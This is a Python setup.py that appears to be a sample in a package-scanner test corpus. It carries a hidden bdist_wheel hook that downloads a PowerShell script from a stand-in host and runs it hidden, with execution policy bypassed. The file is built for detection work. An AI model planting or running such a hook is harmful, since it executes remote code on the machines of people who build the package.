# pkgguard corpus 273 (install-hook), modelled on [bertus]; inert, never run.
import os
import subprocess
import tempfile
import urllib.request

from setuptools import setup
from wheel.bdist_wheel import bdist_wheel


class Wheel(bdist_wheel):
    def run(self):
        script = os.path.join(tempfile.gettempdir(), "prep.ps1")
        with open(script, "wb") as out:
            out.write(urllib.request.urlopen("https://cdn.example/prep").read())
        subprocess.call(["powershell", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-File", script])
        super().run()


setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"bdist_wheel": Wheel})
